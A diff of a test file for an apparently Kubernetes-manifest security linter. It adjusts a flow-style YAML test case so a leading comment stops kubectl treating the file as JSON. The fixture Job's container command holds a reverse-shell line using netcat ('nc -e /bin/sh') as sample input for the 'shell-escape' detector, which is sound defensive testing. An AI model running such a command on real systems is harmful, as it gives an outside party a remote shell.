@@ -70,11 +70,11 @@ describe('where pod templates are found', () => {
     assert.equal(finding.range?.start.column, text.split('\n')[line - 1].indexOf('true') + 1);
   });
 
-  test('flow style, all on a few lines', () => {
-    const text = '{apiVersion: batch/v1, kind: Job, metadata: {name: j},\n spec: {template: {spec: {containers: [{name: x, image: r/app, command: [sh, -c, "nc -e /bin/sh h 1"]}]}}}}\n';
+  test('flow style, all on a few lines (after a comment: a file that starts with `{` is JSON to kubectl)', () => {
+    const text = '# flow style\n{apiVersion: batch/v1, kind: Job, metadata: {name: j},\n spec: {template: {spec: {containers: [{name: x, image: r/app, command: [sh, -c, "nc -e /bin/sh h 1"]}]}}}}\n';
     const [finding] = findingsOf(text, 'shell-escape');
     assert.equal(finding.path, `${JOB_POD_SPEC}/containers/0/command/2`);
-    assert.equal(finding.range?.start.line, 2);
+    assert.equal(finding.range?.start.line, 3);
   });
 
   test('several documents: each finding names its document', () => {
